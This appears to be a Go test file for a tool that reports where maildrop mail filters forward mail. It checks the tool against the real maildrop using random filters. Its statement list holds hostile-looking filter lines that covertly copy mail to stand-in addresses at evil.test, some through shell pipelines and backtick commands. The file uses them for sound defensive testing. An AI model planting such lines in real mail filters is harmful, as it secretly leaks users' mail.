package maildrop_test

import (
	"math/rand/v2"
	"os"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"relayguard/forward"
	"relayguard/forward/maildrop"
)

// covered reports whether a target of a result says that mail goes to an address.
func covered(targets []maildrop.Target, address string) bool {
	return slices.ContainsFunc(targets, func(t maildrop.Target) bool {
		if t.Kind != forward.Address || t.Dormant != "" {
			return false
		}
		if t.Target == address {
			return true
		}
		pattern := strings.ReplaceAll(regexp.QuoteMeta(t.Target), regexp.QuoteMeta(forward.Unknown), `[\s\S]*`)
		return t.Dynamic && regexp.MustCompile(`^`+pattern+`$`).MatchString(address)
	})
}

// TestRealMaildropSendsToTargets runs every case with the real maildrop: it
// calls sendmail for the targets that are told, and for no others.
func TestRealMaildropSendsToTargets(t *testing.T) {
	r := newReal(t)
	for _, c := range filterCases(t) {
		t.Run(c.name, func(t *testing.T) {
			got := r.deliver(t, c.filter, c.files)
			targets := maildrop.Targets([]byte(c.filter), c.options(home)).Targets
			for _, address := range got {
				if !covered(targets, address) {
					t.Errorf("maildrop sends to %q, which is not told", address)
				}
			}
			for _, target := range targets {
				maybe := c.maybe[said([]maildrop.Target{target}, target.Source)[0]]
				if target.Kind == forward.Address && !target.Dynamic && target.Dormant == "" && !maybe && !slices.Contains(got, target.Target) {
					t.Errorf("maildrop does not send to %q; it does to %q", target.Target, got)
				}
			}
		})
	}
}

// statements are what random filters are made of; S stands for another.
var statements = []string{
	"cc \"!a@evil.test\"\n", "cc \"!$A\"\n", "cc \"!${A}b@evil.test $B\"; ", "cc '!$A c@evil.test'\n", "cc \"! $A $B\" # comment\n", "cc $C\n", "cc \"!$MATCH\"\n",
	"to \"!d@evil.test\"\n", "to $C\n", "to \"/dev/null\"\n", "exit\n", "cc \"| sendmail e@evil.test $A\"\n", "cc \"| cat | sendmail f@evil.test\"\n",
	"A=\"g@evil.test\"\n", "A=\"h@evil.test i@evil.test\"\n", "A=\"$A j@evil.test\"\n", "B=$A\n", "C=\"!k@evil.test\"\n", "C=\"!$A\" \"$B\"\n", "C=substr(\"x!l@evil.test\", 1)\n",
	"C=tolower(\"!M@EVIL.TEST\")\n", "B=`echo n@evil.test`\n", "B=`sendmail o@evil.test`\n", "B=`printf p@evil.test`\n", "DEFAULT=\"!q@evil.test\"\n", "DEFAULT=$C\n",
	"SENDMAIL=\"$SENDMAIL r@evil.test\"\n", "unset A\n", "unset \"B\"\n", "import A\n", "if (/^Subject:.*match/)\n S", "if (/^From: (.*)/)\n{\n S S }\nelse\n S", "if ($A eq \"g@evil.test\")\n{\nS}\nelsif (0)\n S",
	"if (length($B))\n\n S", "exception {\n S S }\n", "foreach /^(From|To): .*/\n{\nS S }\n", "{\nS S S}\n", "include \"more.filter\"\n", "xfilter \"cat\"\n",
	"xfilter \"tee x | sendmail s@evil.test >&2; cat x\"\n", "A=\"t@evil.test\"\n", "echo \"x\"\n", "N=\"x$N\"; while (length($N) < 3)\n{\nS N=\"x$N\"\n}\n", "\"C\"=\"!u@evil.test\" ; S",
	"A=\"v@evil.test \\\n   w@evil.test\"\n", "cc \"!x\\$A@evil.test\"\n", "cc \"!\\\"y@evil.test\\\"\"\n", "A=getaddr($A)\n", "A=escape($A)\n", "# to\n", ";", "\\\n", "\r\n",
}

// filter makes a random one.
func filter(random *rand.Rand, count, depth int) string {
	var b strings.Builder
	for range count {
		text := statements[random.IntN(len(statements))]
		for strings.Contains(text, "S ") || strings.HasSuffix(text, "S") || strings.Contains(text, "S}") {
			inner := "\n"
			if depth < 3 {
				inner = filter(random, 1, depth+1)
			}
			at := strings.LastIndex(text, "S")
			if strings.HasPrefix(text[at:], "S ") || strings.HasPrefix(text[at:], "S}") || at == len(text)-1 {
				text = text[:at] + inner + strings.TrimPrefix(text[at+1:], " ")
			} else {
				break
			}
		}
		b.WriteString(text)
	}
	return b.String()
}

// TestRealMaildropSendsNowhereElse makes filters of random pieces, and finds
// that the real maildrop sends to nobody who is not told.
func TestRealMaildropSendsNowhereElse(t *testing.T) {
	r := newReal(t)
	sent, told := 0, 0
	for seed := range uint64(runs()) {
		random := rand.New(rand.NewPCG(seed, 6))
		c := filterCase{filter: filter(random, 2+random.IntN(12), 0), files: map[string]string{"more.filter": strings.ReplaceAll(filter(random, 3, 0), "more.filter", "none.filter")}}
		got := r.deliver(t, c.filter, c.files)
		result := maildrop.Targets([]byte(c.filter), c.options(home))
		sent += len(got)
		told += len(result.Targets)
		for _, address := range got {
			if !covered(result.Targets, address) && len(result.Gaps) == 0 {
				t.Errorf("seed %d: maildrop sends to %q, which is not told, by %q, more.filter %q", seed, address, c.filter, c.files["more.filter"])
			}
		}
	}
	if sent < runs()/10 {
		t.Errorf("%d mails of %d filters: the pieces are no test", sent, runs())
	}
	t.Logf("%d mails, %d targets", sent, told)
}

// runs is how many random filters are tried.
func runs() int {
	if n, err := strconv.Atoi(os.Getenv("RELAYGUARD_RANDOM")); err == nil {
		return n
	}
	return 150
}
